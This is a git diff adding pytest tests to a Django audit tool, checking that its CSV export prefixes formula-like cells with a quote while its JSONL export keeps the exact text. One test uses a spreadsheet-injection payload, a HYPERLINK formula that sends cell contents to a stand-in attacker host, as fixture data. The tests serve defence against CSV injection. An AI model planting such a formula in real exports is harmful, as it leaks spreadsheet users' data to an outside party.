@@ -19,6 +19,7 @@ from django.db.models import Max
 from django.urls import reverse
 from django.utils import timezone
 
+from audit.card_rows import spreadsheet_cell
 from audit.models import AuditExport
 from audit.verify import verify
 from cards.models import Claim, ClaimRevision, VerdictRevision
@@ -315,6 +316,40 @@ def test_cards_csv_has_the_rows_of_cards_jsonl_with_the_passage_texts(demo_runs,
     for row, card in zip(table, cards, strict=True):
         assert row["support"] == (card["support"] or "")
         assert row["citation_texts"] == "\n---\n".join(c["text"] for c in card["citations"])
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "'=1"), ("a=1", "a=1"),
+        ("", ""), (None, ""), (False, "False"),
+    ],
+)  # fmt: skip
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value, cell):
+    assert spreadsheet_cell(value) == cell
+
+
+def test_cards_csv_neutralises_formulas_and_cards_jsonl_keeps_the_exact_text(
+    demo_runs, reviewer, tmp_path
+):
+    response = Response.objects.get(run__run_id="q017-r3")
+    text = '=HYPERLINK("https://evil.example/?"&A1,"Final sale")'
+    claim = claim_create(response=response, author=reviewer, text=text, spans=[[94, 123]])
+    verdict_save(
+        claim=claim, author=reviewer, support="supported", reason="@SUM(1+1) D-01.",
+        seen_claim_seq=1, seen_own_seq=None,
+    )  # fmt: skip
+    out = tmp_path / "package.zip"
+    export("--run", "q017-r3", out=out)
+    files = members(out)
+    (card,) = [c for c in rows(files["cards/cards.jsonl"]) if c["claim_id"] == claim.key]
+    assert (card["text"], card["reason"]) == (text, "@SUM(1+1) D-01.")
+    table = list(csv.DictReader(io.StringIO(files["cards/cards.csv"].decode("utf-8"))))
+    (row,) = [r for r in table if r["claim_id"] == claim.key]
+    assert (row["text"], row["reason"]) == ("'" + text, "'@SUM(1+1) D-01.")
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [c for r in table for c in [*r, *r.values()] if c.startswith(starts)]
 
 
 def test_a_card_shows_the_current_verdict_the_adjudication_over_the_reviews(reviewed, tmp_path):
